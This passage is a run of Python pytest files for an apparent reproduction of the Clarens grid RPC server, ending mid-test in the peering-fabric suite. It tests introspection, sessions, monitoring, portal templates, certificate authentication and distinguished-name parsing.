    def test_dispatcher_counts_requests_and_faults(self, server, client):
        before = server.dispatcher.stats_snapshot()
        client.call("system.ping")
        try:
            client.call("no.such.method")
        except Fault:
            pass
        after = server.dispatcher.stats_snapshot()
        assert after["requests"] >= before["requests"] + 2
        assert after["faults"] >= before["faults"] + 1
        assert after["per_method"]["system.ping"] >= 1

    def test_stats_method_requires_admin(self, client, admin_client):
        with pytest.raises(Fault):
            client.call("system.stats")
        stats = admin_client.call("system.stats")
        assert "requests" in stats and stats["requests"] > 0

    def test_mean_latency_reported(self, server, client):
        client.call("system.ping")
        snapshot = server.dispatcher.stats_snapshot()
        assert snapshot["mean_latency_ms"] >= 0.0
