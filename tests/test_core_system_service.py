"""The system service: introspection, login methods, housekeeping."""

from __future__ import annotations

import pytest

from repro.protocols.errors import Fault

from tests.conftest import ADMIN_DN


class TestIntrospection:
    def test_list_methods_has_more_than_thirty_entries(self, anon_client):
        # The paper's measured response serializes "more than 30 strings".
        methods = anon_client.call("system.list_methods")
        assert len(methods) > 30
        assert methods == sorted(methods)
        assert "system.list_methods" in methods and "file.read" in methods

    def test_list_services_covers_all_standard_modules(self, anon_client):
        services = set(anon_client.call("system.list_services"))
        assert {"system", "vo", "acl", "file", "discovery", "shell", "proxy", "job"} <= services

    def test_method_signature_and_help(self, anon_client):
        assert "filename" in anon_client.call("system.method_signature", "file.read")
        assert "Read" in anon_client.call("system.method_help", "file.read")

    def test_method_signature_unknown_method(self, anon_client):
        with pytest.raises(Fault):
            anon_client.call("system.method_signature", "nope.nothing")

    def test_describe_methods_metadata(self, anon_client):
        entries = {e["name"]: e for e in anon_client.call("system.describe_methods")}
        assert entries["system.list_methods"]["anonymous"] is True
        assert entries["file.read"]["anonymous"] is False
        assert entries["file.read"]["service"] == "file"

    def test_lookup_method_requires_auth(self, anon_client, client):
        with pytest.raises(Fault):
            anon_client.call("system.lookup_method", "system.ping")
        assert client.call("system.lookup_method", "system.ping")["name"] == "system.ping"

    def test_server_info(self, anon_client, server):
        info = anon_client.call("system.server_info")
        assert info["server_name"] == server.config.server_name
        assert set(info["protocols"]) == {"xml-rpc", "soap", "json-rpc",
                                          "binary"}

    def test_echo_round_trips_structures(self, anon_client):
        payload = {"run": 2005, "files": ["a.root", "b.root"], "raw": b"\x00\x01"}
        assert anon_client.call("system.echo", payload) == payload

    def test_ping_version_time(self, anon_client):
        assert anon_client.call("system.ping") == "pong"
        assert anon_client.call("system.version") == "1.0.0"
        assert anon_client.call("system.get_time") > 0


class TestSessions:
    def test_whoami_reports_dn_and_groups(self, client, alice_credential):
        info = client.call("system.whoami")
        assert info["dn"] == str(alice_credential.certificate.subject)
        assert info["authenticated"] is True

    def test_renew_session_extends_expiry(self, client):
        first = client.call("system.renew_session")
        second = client.call("system.renew_session")
        assert second["expires"] >= first["expires"]

    def test_logout_invalidates_session(self, server, loopback, alice_credential):
        from repro.client.client import ClarensClient

        client = ClarensClient.for_loopback(loopback)
        client.login_with_credential(alice_credential)
        session_id = client.session_id
        assert client.logout() is True
        client.session_id = session_id  # simulate a stale client reusing the id
        with pytest.raises(Fault):
            client.call("system.whoami")

    def test_session_count_and_purge_admin_only(self, client, admin_client):
        with pytest.raises(Fault):
            client.call("system.session_count")
        count = admin_client.call("system.session_count")
        assert count >= 2  # alice + admin
        assert admin_client.call("system.purge_sessions") >= 0

    def test_double_login_creates_independent_sessions(self, server, loopback, alice_credential):
        from repro.client.client import ClarensClient

        c1 = ClarensClient.for_loopback(loopback)
        c2 = ClarensClient.for_loopback(loopback)
        c1.login_with_credential(alice_credential)
        c2.login_with_credential(alice_credential)
        assert c1.session_id != c2.session_id
        c1.logout()
        # c2's session is unaffected by c1 logging out.
        assert c2.call("system.whoami")["authenticated"] is True


class TestAdminBootstrap:
    def test_admin_dn_comes_from_config(self, server):
        assert server.vo.is_admin(ADMIN_DN)
        assert not server.vo.is_admin("/O=clarens.test/OU=People/CN=Alice Adams")

    def test_admin_group_repopulated_on_restart(self, ca, host_credential, tmp_path):
        from tests.conftest import build_server

        first = build_server(ca, host_credential, data_dir=tmp_path / "state",
                             admins=["/O=clarens.test/OU=People/CN=Old Admin"])
        first.close()
        second = build_server(ca, host_credential, data_dir=tmp_path / "state",
                              admins=["/O=clarens.test/OU=People/CN=New Admin"])
        try:
            assert second.vo.is_admin("/O=clarens.test/OU=People/CN=New Admin")
            assert not second.vo.is_admin("/O=clarens.test/OU=People/CN=Old Admin")
        finally:
            second.close()
