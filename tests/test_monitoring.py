"""The MonALISA-style monitoring substrate: bus, GLUE schema, stations, repository."""

from __future__ import annotations

import random

import pytest

from repro.monitoring.bus import MessageBus
from repro.monitoring.glue import GlueSchema, generate_synthetic_grid
from repro.monitoring.lookup import LookupService
from repro.monitoring.monalisa import MonALISARepository
from repro.monitoring.station import StationServer


class TestMessageBus:
    def test_topic_prefix_subscription(self):
        bus = MessageBus()
        received = []
        bus.subscribe("monalisa.station1", received.append)
        bus.publish("monalisa.station1.metric", {"v": 1})
        bus.publish("monalisa.station2.metric", {"v": 2})
        bus.publish("monalisa.station1", {"v": 3})
        assert [m.payload["v"] for m in received] == [1, 3]

    def test_wildcard_subscription(self):
        bus = MessageBus()
        received = []
        bus.subscribe("*", received.append)
        bus.publish("anything.at.all", {})
        assert len(received) == 1

    def test_unsubscribe(self):
        bus = MessageBus()
        received = []
        sub = bus.subscribe("x", received.append)
        assert bus.unsubscribe(sub)
        assert not bus.unsubscribe(sub)
        bus.publish("x.y", {})
        assert received == []

    def test_lossy_delivery_drops_some_unreliable_messages(self):
        bus = MessageBus(loss_probability=0.5, rng=random.Random(1))
        received = []
        bus.subscribe("udp", received.append)
        for i in range(200):
            bus.publish("udp.sample", {"i": i}, reliable=False)
        assert 0 < len(received) < 200
        assert bus.stats()["dropped"] == 200 - len(received)

    def test_reliable_delivery_never_drops(self):
        bus = MessageBus(loss_probability=0.9, rng=random.Random(1))
        received = []
        bus.subscribe("tcp", received.append)
        for i in range(50):
            bus.publish("tcp.sample", {"i": i}, reliable=True)
        assert len(received) == 50

    def test_invalid_loss_probability(self):
        with pytest.raises(ValueError):
            MessageBus(loss_probability=1.0)


class TestGlueSchema:
    def test_hierarchy_and_metrics(self):
        schema = GlueSchema()
        schema.record_metric("caltech", "tier2", "node-001", "cpu_usage", 75.0)
        schema.record_metric("caltech", "tier2", "node-001", "cpu_usage", 80.0)
        schema.record_metric("caltech", "tier2", "node-002", "cpu_usage", 20.0)
        site = schema.site("caltech")
        assert site.node_count() == 2
        assert site.farm("tier2").total_metric("cpu_usage") == 100.0
        assert schema.site_count() == 1

    def test_iter_nodes_and_records(self):
        schema = GlueSchema()
        schema.record_metric("s", "f", "n", "load1", 1.5)
        entries = list(schema.iter_nodes())
        assert entries[0][0:2] == ("s", "f")
        record = schema.to_record()
        assert record["sites"][0]["farms"][0]["nodes"][0]["metrics"]["load1"] == 1.5

    def test_synthetic_grid_scale(self):
        schema = generate_synthetic_grid(90, rng=random.Random(5))
        # The paper's MonALISA deployment monitored "more than 90 sites".
        assert schema.site_count() == 90
        assert schema.node_count() > 500
        regions = {site.attributes["region"] for site in schema.sites.values()}
        assert regions == {"us", "eu", "asia", "sa"}


class TestLookupService:
    def test_register_match_cancel(self):
        lookup = LookupService()
        lookup.register("svc-a", {"name": "a", "vo": "cms"})
        lookup.register("svc-b", {"name": "b", "vo": "atlas"})
        assert len(lookup.match()) == 2
        assert lookup.match(vo="cms")[0]["name"] == "a"
        assert lookup.cancel("svc-a")
        assert lookup.get("svc-a") is None

    def test_lease_expiry(self):
        lookup = LookupService(default_lease=0.01)
        lookup.register("ephemeral", {"name": "e"})
        import time

        time.sleep(0.02)
        assert lookup.match() == []
        assert lookup.entry_count() == 0

    def test_renew_extends_lease(self):
        lookup = LookupService(default_lease=0.05)
        lookup.register("svc", {"name": "s"})
        lease = lookup.renew("svc", lease_seconds=60)
        assert lease is not None and lease.duration == 60
        assert lookup.renew("unknown") is None


class TestStationAndRepository:
    def test_station_republishes_to_repository(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        station = StationServer("station-caltech", bus, site_name="caltech")
        station.receive_metric("tier2", "node-001", "cpu_usage", 50.0, reliable=True)
        station.receive_service_info({"name": "clarens-1", "url": "http://c1/rpc",
                                      "services": ["system", "file"]}, reliable=True)
        assert repo.site_metrics("caltech", "cpu_usage") == 50.0
        assert repo.service_count() == 1
        assert repo.find_services_by_module("file")[0]["name"] == "clarens-1"
        assert repo.snapshot()["sites"] == 1

    def test_service_descriptor_replaced_not_duplicated(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        station = StationServer("st", bus)
        for _ in range(3):
            station.receive_service_info({"name": "clarens-1", "url": "http://c1/rpc",
                                          "services": ["system"]}, reliable=True)
        assert repo.service_count() == 1
        assert station.stats()["service_publications"] == 3
        assert len(station.site_snapshot()["services"]) == 1

    def test_multiple_stations_aggregate(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        for i in range(5):
            station = StationServer(f"st-{i}", bus, site_name=f"site-{i}")
            station.receive_service_info({"name": f"clarens-{i}", "url": f"http://c{i}/rpc",
                                          "services": ["system"]}, reliable=True)
            station.receive_metric("farm", "n0", "load1", float(i), reliable=True)
        assert repo.service_count() == 5
        assert len(repo.sites()) == 5
        assert repo.find_services(vo="cms") == []  # attribute not published

    def test_repository_close_stops_ingestion(self):
        bus = MessageBus()
        repo = MonALISARepository(bus)
        station = StationServer("st", bus)
        repo.close()
        station.receive_metric("f", "n", "load1", 1.0, reliable=True)
        assert repo.metric_updates == 0
