"""Portal generation: templates, components and integration with the file service."""

from __future__ import annotations

import pytest

from repro.portal.components import (
    ACLManagerComponent,
    DiscoveryComponent,
    FileBrowserComponent,
    JobSubmissionComponent,
    VOManagerComponent,
)
from repro.portal.generator import PortalGenerator
from repro.portal.templates import TemplateError, render_template


class TestTemplates:
    def test_variable_substitution(self):
        assert render_template("Hello {{ name }}!", {"name": "grid"}) == "Hello grid!"

    def test_dotted_lookup(self):
        assert render_template("{{ server.name }}", {"server": {"name": "clarens"}}) == "clarens"

    def test_for_loop(self):
        out = render_template("{% for x in items %}[{{ x }}]{% endfor %}",
                              {"items": ["a", "b", "c"]})
        assert out == "[a][b][c]"

    def test_nested_context_inside_loop(self):
        out = render_template("{% for x in items %}{{ prefix }}{{ x }} {% endfor %}",
                              {"items": ["1", "2"], "prefix": "v"})
        assert out == "v1 v2 "

    def test_unknown_variable_raises(self):
        with pytest.raises(TemplateError):
            render_template("{{ missing }}", {})

    def test_empty_loop_renders_nothing(self):
        assert render_template("{% for x in items %}x{% endfor %}", {"items": []}) == ""


class TestComponents:
    @pytest.mark.parametrize("component_cls,expected_call", [
        (FileBrowserComponent, "file.ls"),
        (VOManagerComponent, "vo.list_groups"),
        (ACLManagerComponent, "acl.check_method"),
        (DiscoveryComponent, "discovery.find"),
        (JobSubmissionComponent, "job.submit"),
    ])
    def test_each_component_embeds_its_service_call(self, component_cls, expected_call):
        component = component_cls(rpc_path="/clarens/rpc", server_name="portal-test")
        html = component.render()
        assert expected_call in html
        assert "/clarens/rpc" in html
        assert "X-Clarens-Session" in html  # session header wired into the JS runtime
        assert html.startswith("<!DOCTYPE html>")

    def test_navigation_links_rendered(self):
        html = FileBrowserComponent().render(nav_links=["index.html", "vo.html"])
        assert 'href="index.html"' in html and 'href="vo.html"' in html


class TestGenerator:
    def test_render_all_produces_expected_pages(self):
        pages = PortalGenerator(server_name="cms-portal").render_all()
        assert set(pages) == {"index.html", "files.html", "vo.html", "acl.html",
                              "discovery.html", "jobs.html"}
        assert "cms-portal" in pages["index.html"]
        assert 'href="files.html"' in pages["index.html"]

    def test_write_creates_files(self, tmp_path):
        written = PortalGenerator().write(tmp_path / "portal")
        assert len(written) == 6
        assert all(path.exists() and path.stat().st_size > 0 for path in written)

    def test_for_server_uses_config(self, server):
        generator = PortalGenerator.for_server(server)
        html = generator.render_all()["files.html"]
        assert server.config.rpc_path() in html
        assert server.config.server_name in html

    def test_portal_served_through_file_service(self, server, admin_client, client):
        """Writing the portal under the file root makes it reachable over GET."""

        portal_dir = server.file_root / "portal"
        PortalGenerator.for_server(server).write(portal_dir)
        response = client.http_get("portal/index.html")
        assert response.status == 200
        assert b"Clarens portal" in response.body_bytes()
        assert response.headers.get("Content-Type") == "text/html"
