"""Method registry and the authenticator."""

from __future__ import annotations

import pytest

from repro.core.auth import Authenticator
from repro.core.errors import AuthenticationError, NotFoundError
from repro.core.registry import MethodRegistry
from repro.core.session import SessionManager
from repro.database import Database
from repro.pki.authority import CertificateAuthority
from repro.pki.proxy import issue_proxy


class TestMethodRegistry:
    def test_register_and_lookup(self):
        registry = MethodRegistry()
        registry.register("math.add", lambda a, b: a + b, help="Add two numbers")
        method = registry.lookup("math.add")
        assert method.func(2, 3) == 5
        assert method.help == "Add two numbers"
        assert "math.add" in registry and len(registry) == 1

    def test_lookup_unknown_raises(self):
        with pytest.raises(NotFoundError):
            MethodRegistry().lookup("no.such.method")

    def test_invalid_names_rejected(self):
        registry = MethodRegistry()
        for bad in ("", ".x", "x."):
            with pytest.raises(ValueError):
                registry.register(bad, lambda: None)

    def test_signature_inferred_and_ctx_hidden(self):
        registry = MethodRegistry()

        def handler(ctx, filename, offset=0):
            return None

        registry.register("file.read", handler)
        assert registry.method_signature("file.read") == "(filename, offset)"

    def test_help_from_docstring(self):
        registry = MethodRegistry()

        def documented():
            """Does the thing."""

        registry.register("svc.doc", documented)
        assert registry.method_help("svc.doc") == "Does the thing."

    def test_list_methods_sorted_and_db_backed(self):
        db = Database()
        registry = MethodRegistry(db)
        for name in ("zeta.last", "alpha.first", "mid.dle"):
            registry.register(name, lambda: None)
        assert registry.list_methods() == ["alpha.first", "mid.dle", "zeta.last"]
        # The names really live in the database table.
        assert len(db.table("methods")) == 3

    def test_unregister_removes_from_db(self):
        db = Database()
        registry = MethodRegistry(db)
        registry.register("a.b", lambda: None)
        assert registry.unregister("a.b")
        assert not registry.unregister("a.b")
        assert len(db.table("methods")) == 0

    def test_modules_and_methods_for_module(self):
        registry = MethodRegistry()
        for name in ("file.read", "file.ls", "system.echo"):
            registry.register(name, lambda: None)
        assert registry.modules() == ["file", "system"]
        assert registry.methods_for_module("file") == ["file.ls", "file.read"]

    def test_cache_method_list_skips_rebuild(self):
        registry = MethodRegistry(Database(), cache_method_list=True)
        registry.register("a.one", lambda: None)
        first = registry.list_methods()
        # Mutating after the first call invalidates the cache.
        registry.register("b.two", lambda: None)
        assert registry.list_methods() == ["a.one", "b.two"]
        assert first == ["a.one"]

    def test_describe_contains_metadata(self):
        registry = MethodRegistry()
        registry.register("svc.m", lambda: None, anonymous=True, service="svc")
        entry = registry.describe()[0]
        assert entry["anonymous"] is True and entry["service"] == "svc"


@pytest.fixture(scope="module")
def auth_pki():
    ca = CertificateAuthority("/O=auth.test/CN=Auth CA", key_bits=512)
    return {"ca": ca, "user": ca.issue_user("Andy Auth")}


@pytest.fixture()
def authenticator(auth_pki):
    return Authenticator(SessionManager(Database()), auth_pki["ca"].trust_store(),
                         revoked_serials=auth_pki["ca"].crl())


class TestAuthenticator:
    def test_challenge_response_login(self, authenticator, auth_pki):
        user = auth_pki["user"]
        dn = str(user.certificate.subject)
        nonce = authenticator.issue_challenge(dn)
        session = authenticator.login_with_signature(
            dn, user.private_key.sign(nonce.encode()), list(user.full_chain()))
        assert session.dn == dn
        assert authenticator.sessions.validate(session.session_id).dn == dn

    def test_challenge_consumed_after_use(self, authenticator, auth_pki):
        user = auth_pki["user"]
        dn = str(user.certificate.subject)
        nonce = authenticator.issue_challenge(dn)
        signature = user.private_key.sign(nonce.encode())
        authenticator.login_with_signature(dn, signature, list(user.full_chain()))
        with pytest.raises(AuthenticationError, match="challenge"):
            authenticator.login_with_signature(dn, signature, list(user.full_chain()))

    def test_wrong_signature_rejected(self, authenticator, auth_pki):
        user = auth_pki["user"]
        dn = str(user.certificate.subject)
        authenticator.issue_challenge(dn)
        with pytest.raises(AuthenticationError, match="signature"):
            authenticator.login_with_signature(dn, 12345, list(user.full_chain()))

    def test_untrusted_chain_rejected(self, authenticator):
        rogue = CertificateAuthority("/O=auth.test/CN=Rogue", key_bits=512)
        mallory = rogue.issue_user("Mallory")
        dn = str(mallory.certificate.subject)
        nonce = authenticator.issue_challenge(dn)
        with pytest.raises(AuthenticationError, match="verification failed"):
            authenticator.login_with_signature(
                dn, mallory.private_key.sign(nonce.encode()), list(mallory.full_chain()))

    def test_dn_mismatch_rejected(self, authenticator, auth_pki):
        user = auth_pki["user"]
        impostor_dn = "/O=auth.test/OU=People/CN=Somebody Else"
        nonce = authenticator.issue_challenge(impostor_dn)
        with pytest.raises(AuthenticationError):
            authenticator.login_with_signature(
                impostor_dn, user.private_key.sign(nonce.encode()), list(user.full_chain()))

    def test_no_challenge_outstanding(self, authenticator, auth_pki):
        user = auth_pki["user"]
        with pytest.raises(AuthenticationError, match="challenge"):
            authenticator.login_with_signature(str(user.certificate.subject), 1,
                                               list(user.full_chain()))

    def test_revoked_certificate_rejected(self, auth_pki):
        ca = auth_pki["ca"]
        revoked = ca.issue_user("Revoked Randy")
        ca.revoke(revoked.certificate)
        authenticator = Authenticator(SessionManager(Database()), ca.trust_store(),
                                      revoked_serials=ca.crl())
        dn = str(revoked.certificate.subject)
        nonce = authenticator.issue_challenge(dn)
        with pytest.raises(AuthenticationError):
            authenticator.login_with_signature(
                dn, revoked.private_key.sign(nonce.encode()), list(revoked.full_chain()))

    def test_proxy_login_authenticates_owner(self, authenticator, auth_pki):
        proxy = issue_proxy(auth_pki["user"])
        session = authenticator.login_with_proxy(proxy)
        assert session.dn == str(auth_pki["user"].certificate.subject)
        assert session.method == "proxy"

    def test_proxy_login_via_challenge_signature(self, authenticator, auth_pki):
        proxy = issue_proxy(auth_pki["user"])
        owner_dn = str(auth_pki["user"].certificate.subject)
        nonce = authenticator.issue_challenge(owner_dn)
        session = authenticator.login_with_signature(
            owner_dn, proxy.credential.private_key.sign(nonce.encode()),
            list(proxy.credential.full_chain()))
        assert session.method == "proxy"
        assert session.dn == owner_dn

    def test_tls_login(self, authenticator):
        session = authenticator.login_tls("/O=auth.test/OU=People/CN=Tina TLS")
        assert session.dn.endswith("Tina TLS")
        with pytest.raises(AuthenticationError):
            authenticator.login_tls(None)

    def test_logout_destroys_session(self, authenticator):
        session = authenticator.login_tls("/O=auth.test/CN=bye")
        assert authenticator.logout(session.session_id)
        assert not authenticator.logout(session.session_id)

    def test_challenge_bookkeeping(self, authenticator):
        authenticator.issue_challenge("/O=x/CN=a")
        authenticator.issue_challenge("/O=x/CN=b")
        authenticator.issue_challenge("/O=x/CN=a")  # replaces, not adds
        assert authenticator.outstanding_challenges() == 2
        with pytest.raises(AuthenticationError):
            authenticator.issue_challenge("")
