"""Distinguished-name parsing, formatting and prefix matching."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from repro.pki.dn import DN, DNParseError, RDN

PEOPLE_DN = "/O=doesciencegrid.org/OU=People/CN=John Smith 12345"
SERVICE_DN = "/O=doesciencegrid.org/OU=Services/CN=host/www.mysite.edu"


class TestParsing:
    def test_parse_paper_example_person(self):
        dn = DN.parse(PEOPLE_DN)
        assert dn.organization == "doesciencegrid.org"
        assert dn.first_value("OU") == "People"
        assert dn.common_name == "John Smith 12345"

    def test_parse_paper_example_service_with_slash_in_cn(self):
        # The host DN ends in CN=host/www.mysite.edu; the escaped form
        # round-trips explicitly.
        dn = DN.parse("/O=doesciencegrid.org/OU=Services/CN=host\\/www.mysite.edu")
        assert dn.common_name == "host/www.mysite.edu"
        assert dn.is_service_dn()

    def test_parse_unescaped_host_dn_round_trips(self):
        # str(DN) does not escape slashes, and Globus host DNs carry one in
        # the CN routinely — a component without '=' therefore belongs to
        # the previous value, so parse(str(dn)) round-trips host identities
        # (the fabric authenticates peer channels with exactly these).
        text = "/O=doesciencegrid.org/OU=Services/CN=host/www.mysite.edu"
        dn = DN.parse(text)
        assert dn.common_name == "host/www.mysite.edu"
        assert str(dn) == text
        assert DN.parse(str(dn)) == dn

    def test_str_round_trip(self):
        dn = DN.parse(PEOPLE_DN)
        assert DN.parse(str(dn)) == dn

    def test_parse_doegrids_style(self):
        dn = DN.parse("/DC=org/DC=doegrids/OU=People/CN=Joe User")
        assert dn.values("DC") == ["org", "doegrids"]

    def test_order_is_significant(self):
        assert DN.parse("/O=x/OU=y") != DN.parse("/OU=y/O=x")

    def test_keys_case_insensitive_for_known_attributes(self):
        assert DN.parse("/o=cern.ch/cn=alice") == DN.parse("/O=cern.ch/CN=alice")

    def test_values_are_case_sensitive(self):
        assert DN.parse("/O=cern.ch/CN=alice") != DN.parse("/O=cern.ch/CN=Alice")

    @pytest.mark.parametrize("bad", [
        "", "   ", "no-leading-slash/O=x", "/O=x/", "/O=x//CN=y", "/O=", "/=value",
        "/Ox", "/O=x\\",
    ])
    def test_malformed_inputs_rejected(self, bad):
        with pytest.raises(DNParseError):
            DN.parse(bad)

    def test_parse_requires_string(self):
        with pytest.raises(DNParseError):
            DN.parse(123)  # type: ignore[arg-type]

    def test_coerce_accepts_dn_and_string(self):
        dn = DN.parse(PEOPLE_DN)
        assert DN.coerce(dn) is dn
        assert DN.coerce(PEOPLE_DN) == dn

    def test_empty_component_list_rejected(self):
        with pytest.raises(DNParseError):
            DN([])


class TestHierarchy:
    def test_prefix_admits_all_people(self):
        prefix = DN.parse("/O=doesciencegrid.org/OU=People")
        assert prefix.is_prefix_of(PEOPLE_DN)
        assert DN.parse(PEOPLE_DN).matches(prefix)

    def test_prefix_does_not_admit_services(self):
        prefix = DN.parse("/O=doesciencegrid.org/OU=People")
        assert not prefix.is_prefix_of(
            "/O=doesciencegrid.org/OU=Services/CN=host\\/www.mysite.edu")

    def test_dn_is_prefix_of_itself(self):
        dn = DN.parse(PEOPLE_DN)
        assert dn.is_prefix_of(dn)

    def test_longer_dn_is_not_prefix_of_shorter(self):
        assert not DN.parse(PEOPLE_DN).is_prefix_of("/O=doesciencegrid.org")

    def test_parent_and_child(self):
        dn = DN.parse("/O=cern.ch/CN=alice")
        assert dn.parent() == DN.parse("/O=cern.ch")
        assert dn.parent().parent() is None
        assert dn.child("CN", "proxy") == DN.parse("/O=cern.ch/CN=alice/CN=proxy")

    def test_service_dn_detection(self):
        assert DN.parse("/O=x/OU=Services/CN=web").is_service_dn()
        assert DN.parse("/O=x/CN=host\\/node1.example").is_service_dn()
        assert not DN.parse(PEOPLE_DN).is_service_dn()


class TestDunder:
    def test_hashable_and_usable_as_dict_key(self):
        mapping = {DN.parse(PEOPLE_DN): 1}
        assert mapping[DN.parse(PEOPLE_DN)] == 1

    def test_equality_with_string(self):
        assert DN.parse(PEOPLE_DN) == PEOPLE_DN

    def test_len_and_iter(self):
        dn = DN.parse(PEOPLE_DN)
        assert len(dn) == 3
        assert [r.key for r in dn] == ["O", "OU", "CN"]

    def test_rdn_str(self):
        assert str(RDN("CN", "alice")) == "CN=alice"


# -- property-based tests ------------------------------------------------------

_value_st = st.text(
    alphabet=st.characters(whitelist_categories=("L", "N"), whitelist_characters=" .-_@"),
    min_size=1, max_size=20,
).filter(lambda s: s.strip() == s and s.strip())
_key_st = st.sampled_from(["O", "OU", "CN", "DC", "C", "L", "ST", "UID"])
_rdns_st = st.lists(st.tuples(_key_st, _value_st), min_size=1, max_size=6)


@given(_rdns_st)
def test_format_parse_round_trip(rdns):
    dn = DN(rdns)
    assert DN.parse(str(dn)) == dn


@given(_rdns_st, st.lists(st.tuples(_key_st, _value_st), min_size=0, max_size=3))
def test_prefix_property(rdns, extra):
    base = DN(rdns)
    extended = DN(list(rdns) + list(extra))
    assert base.is_prefix_of(extended)
    # And the extension is only a prefix of the base when nothing was added.
    assert extended.is_prefix_of(base) == (len(extra) == 0)


@given(_rdns_st)
def test_parent_reduces_length(rdns):
    dn = DN(rdns)
    parent = dn.parent()
    if len(dn) == 1:
        assert parent is None
    else:
        assert parent is not None and len(parent) == len(dn) - 1
        assert parent.is_prefix_of(dn)
