"""The ``repro.fabric`` peering substrate.

Covers the refactored seams end to end: peer registry health events, pooled
channels that drop and reconnect mid-transfer under a RemoteStorageElement,
gossip bridging (cache invalidations across servers with *separate* buses),
two-server catalogue anti-entropy (register on A, readable via B, quarantine
wins in both directions), fabric-wide admission shedding, multicall token
charging, and the ACL fence on the ``fabric.*`` RPC surface.
"""

from __future__ import annotations

import hashlib
import itertools
import socket

import pytest

from repro.client.client import ClarensClient
from repro.client.errors import ClientError
from repro.client.files import download_lfn
from repro.core.config import ServerConfig
from repro.core.faults import FAULTS
from repro.core.server import ClarensServer
from repro.fabric.channel import PeerChannel, PeerChannelError
from repro.fabric.registry import PeerRegistry
from repro.monitoring.bus import MessageBus
from repro.pki.authority import CertificateAuthority
from repro.protocols.errors import Fault, FaultCode
from repro.replica.model import ReplicaState
from repro.replica.storage import RemoteStorageElement, StorageElementError

OPS_DN = "/O=clarens.test/OU=People/CN=Ada Admin"
PEER_USER = "Fabric Peer Service"


@pytest.fixture(scope="module")
def fabric_ca():
    return CertificateAuthority("/O=clarens.test/CN=Fabric CA", key_bits=512)


@pytest.fixture(scope="module")
def peer_credential(fabric_ca):
    return fabric_ca.issue_user(PEER_USER)


@pytest.fixture(scope="module")
def user_credential(fabric_ca):
    return fabric_ca.issue_user("Norma User")


@pytest.fixture(scope="module")
def admin_credential(fabric_ca):
    return fabric_ca.issue_user("Ada Admin")


def build_site(ca, name, **overrides):
    host = ca.issue_host(f"{name}.clarens.test")
    config = ServerConfig(server_name=name, admins=[OPS_DN],
                          host_dn=str(host.certificate.subject), **overrides)
    return ClarensServer(config, credential=host, trust_store=ca.trust_store())


def login_factory(server, credential):
    def factory():
        client = ClarensClient.for_loopback(server.loopback())
        client.login_with_credential(credential)
        return client
    return factory


def mesh(site_a, site_b, credential):
    """Peer two servers with each other (full mesh of two)."""

    dn = str(credential.certificate.subject)
    site_a.fabric.add_peer(site_b.config.server_name,
                           factory=login_factory(site_b, credential), dn=dn)
    site_b.fabric.add_peer(site_a.config.server_name,
                           factory=login_factory(site_a, credential), dn=dn)


@pytest.fixture()
def two_sites(fabric_ca, peer_credential):
    a = build_site(fabric_ca, "site-a")
    b = build_site(fabric_ca, "site-b")
    mesh(a, b, peer_credential)
    yield a, b
    a.close()
    b.close()


# ---------------------------------------------------------------------------
# PeerRegistry
# ---------------------------------------------------------------------------

class TestPeerRegistry:
    def test_add_get_remove(self):
        registry = PeerRegistry(source="me")
        peer = registry.add("site-b", url="http://b:8080", dn="/CN=b")
        assert registry.get("site-b") is peer
        assert registry.names() == ["site-b"]
        assert registry.trusted_dns() == {"/CN=b"}
        assert registry.remove("site-b")
        assert not registry.remove("site-b")
        assert len(registry) == 0

    def test_duplicate_and_self_peering_refused(self):
        registry = PeerRegistry(source="me")
        registry.add("site-b")
        with pytest.raises(ValueError):
            registry.add("site-b")
        with pytest.raises(ValueError):
            registry.add("me")

    def test_health_transitions_publish_once(self):
        bus = MessageBus()
        events = []
        bus.subscribe("fabric.peer", lambda m: events.append(m.topic))
        registry = PeerRegistry(bus=bus, source="me")
        registry.add("site-b")
        registry.mark_down("site-b", "dial failed")
        registry.mark_down("site-b", "still down")   # no second event
        registry.mark_up("site-b")
        assert events == ["fabric.peer.down", "fabric.peer.up"]
        peer = registry.get("site-b")
        assert peer.failures == 2 and peer.successes == 1
        assert peer.last_error == ""


# ---------------------------------------------------------------------------
# PeerChannel
# ---------------------------------------------------------------------------

def drop_attempts(peer, *numbers):
    """Arm a link-drop plan on the ``fabric.channel.call`` fault seam.

    The Nth seam fire for ``peer`` (counting every attempt, retries
    included — session login happens outside the seam) raises
    :class:`ClientError`, exactly the schedule the old transport-wrapping
    flake produced.  The rule is disarmed by the autouse ``FAULTS.clear()``
    fixture; tests that finish their plan early may also ``cancel()`` it.
    """

    schedule = itertools.count(1)
    plan = set(numbers)

    def maybe_drop(ctx):
        if next(schedule) in plan:
            raise ClientError("injected link drop")

    return FAULTS.inject("fabric.channel.call", call=maybe_drop,
                         times=None, match={"peer": peer})


class TestPeerChannel:
    def test_pooled_sessions_are_reused(self, fabric_ca, peer_credential):
        server = build_site(fabric_ca, "pool-site")
        try:
            built = []
            base = login_factory(server, peer_credential)

            def counting_factory():
                client = base()
                built.append(client)
                return client

            channel = PeerChannel("pool-site", counting_factory)
            assert channel.call("system.ping") == "pong"
            assert channel.call("system.ping") == "pong"
            assert len(built) == 1          # second call reused the session
            assert channel.dn == str(peer_credential.certificate.subject)
            channel.close()
        finally:
            server.close()

    def test_fault_passes_through_without_retry(self, fabric_ca,
                                                peer_credential):
        server = build_site(fabric_ca, "fault-site")
        try:
            channel = PeerChannel("fault-site",
                                  login_factory(server, peer_credential))
            with pytest.raises(Fault):
                channel.call("system.no_such_method")
            assert channel.faults == 1
            assert channel.transport_errors == 0
            channel.close()
        finally:
            server.close()

    def test_transport_drop_reconnects_and_retries(self, fabric_ca,
                                                   peer_credential):
        server = build_site(fabric_ca, "flaky-site")
        try:
            registry = PeerRegistry(source="me")
            registry.add("flaky-site")
            # The first post-login attempt drops; the rebuilt session's
            # retry succeeds.
            drop_attempts("flaky-site", 1)
            channel = PeerChannel("flaky-site",
                                  login_factory(server, peer_credential),
                                  registry=registry, backoff=0.0)
            assert channel.call("system.ping") == "pong"
            assert channel.transport_errors == 1
            assert channel.reconnects == 2
            assert registry.get("flaky-site").state == "up"
            channel.close()
        finally:
            server.close()

    def test_retries_exhausted_marks_peer_down(self, fabric_ca,
                                               peer_credential):
        server = build_site(fabric_ca, "dead-site")
        try:
            registry = PeerRegistry(source="me")
            registry.add("dead-site")

            def dead_factory():
                raise ClientError("connection refused")

            channel = PeerChannel("dead-site", dead_factory, registry=registry,
